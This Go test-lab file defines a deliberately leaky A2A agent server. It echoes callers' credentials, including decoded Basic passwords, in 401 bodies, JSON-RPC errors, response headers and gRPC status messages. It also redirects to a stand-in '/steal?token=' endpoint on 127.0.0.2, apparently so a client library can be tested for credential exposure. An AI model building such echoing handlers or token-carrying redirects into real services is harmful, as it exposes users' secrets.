package lab

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"

	"github.com/a2aproject/a2a-go/v2/a2a"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"

	"github.com/a2abind/a2abind/card"
	"github.com/a2abind/a2abind/wire"
)

// Paths of the Leaky agent: its interfaces (see Leaky), and two bases whose card fetch
// leaks (LeakyDenied's card answers 401, LeakyAway's redirects to another origin).
const (
	LeakyPath401      = "/leak/jsonrpc-401"
	LeakyPathRPCError = "/leak/jsonrpc-error"
	LeakyPathREST     = "/leak/rest"
	LeakyPathRedirect = "/leak/redirect"
	LeakyDenied       = "/deny"
	LeakyAway         = "/away"
)

// Leaky is an agent that gives back every credential it was sent, in each way a server
// can: its card declares a JSON-RPC interface answering 401 with the request's headers
// in the body (the token pushed past the first hundred bytes, where a snippet is cut), one
// answering a JSON-RPC error whose message holds them, an HTTP+JSON one answering 401
// with them in WWW-Authenticate and a header, one redirecting to another origin with the
// token in the Location's query, and a gRPC listener answering UNAUTHENTICATED with them
// in the status message. Under LeakyDenied and LeakyAway the card fetch itself leaks them
// (a 401 body, a redirect's Location). The token without its scheme and Basic's
// user:password decoded are echoed too.
func Leaky() []Option {
	return []Option{
		WithGRPC(GRPCV1),
		WithGRPCServerOptions(grpc.UnaryInterceptor(leakGRPC), grpc.StreamInterceptor(leakGRPCStream)),
		WithHTTPMiddleware(leakHTTP),
		WithCard(func(a *Agent) any {
			return V1Card("leaky",
				Decl{a.URL(LeakyPath401), JSONRPC, card.V1},
				Decl{a.URL(LeakyPathRPCError), JSONRPC, card.V1},
				Decl{a.URL(LeakyPathREST), HTTPJSON, card.V1},
				Decl{a.URL(LeakyPathRedirect), JSONRPC, card.V1},
				Decl{a.GRPCAddr, GRPC, card.V1})
		}),
	}
}

// echoed is every header value of h, each also without its scheme and in base64, and the
// request's query: what a careless server puts in an error.
func echoed(h http.Header, query string) string {
	var parts []string
	for _, k := range slices.Sorted(maps.Keys(h)) {
		for _, v := range h[k] {
			parts = append(parts, k+": "+v)
			scheme, cred, ok := strings.Cut(v, " ")
			if ok {
				parts = append(parts, "credential="+cred)
			}
			if raw, err := base64.StdEncoding.DecodeString(cred); err == nil && scheme == "Basic" {
				parts = append(parts, "decoded="+string(raw))
			}
		}
	}
	if query != "" {
		parts = append(parts, "query="+query)
	}
	return strings.Join(parts, "; ")
}

func leakHTTP(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen := echoed(r.Header, r.URL.RawQuery)
		token := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		switch p := r.URL.Path; {
		case p == LeakyPath401 || p == LeakyDenied+card.WellKnownPath:
			pad := strings.Repeat("x", 80) // the token starts near where a snippet is cut
			body, _ := json.Marshal(map[string]string{"a": pad + " " + token, "seen": seen})
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = w.Write(body)
		case p == LeakyPathRPCError:
			invalid, _ := wire.ErrorFor(a2a.ErrInvalidRequest)
			body, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": nil,
				"error": map[string]any{"code": invalid.JSONRPC, "message": "credentials refused: " + seen}})
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write(body)
		case strings.HasPrefix(p, LeakyPathREST):
			w.Header().Set("WWW-Authenticate", `Bearer error="invalid_token", error_description="`+strings.ReplaceAll(seen, `"`, `'`)+`"`)
			w.Header().Set("X-Seen", seen)
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusUnauthorized)
			body, _ := json.Marshal(map[string]any{"error": map[string]any{"code": 401, "message": seen}})
			_, _ = w.Write(body)
		case p == LeakyPathRedirect || p == LeakyAway+card.WellKnownPath:
			http.Redirect(w, r, "http://127.0.0.2:9/steal?token="+url.QueryEscape(token)+"&seen="+url.QueryEscape(seen), http.StatusTemporaryRedirect)
		default:
			next.ServeHTTP(w, r)
		}
	})
}

func leakGRPCStatus(ctx context.Context) error {
	md, _ := metadata.FromIncomingContext(ctx)
	h := http.Header{}
	for k, vs := range md {
		if !strings.HasPrefix(k, ":") && k != "user-agent" && k != "content-type" {
			h[k] = vs
		}
	}
	return status.Error(codes.Unauthenticated, "credentials refused: "+echoed(h, ""))
}

func leakGRPC(ctx context.Context, _ any, _ *grpc.UnaryServerInfo, _ grpc.UnaryHandler) (any, error) {
	return nil, leakGRPCStatus(ctx)
}

func leakGRPCStream(_ any, ss grpc.ServerStream, _ *grpc.StreamServerInfo, _ grpc.StreamHandler) error {
	return leakGRPCStatus(ss.Context())
}
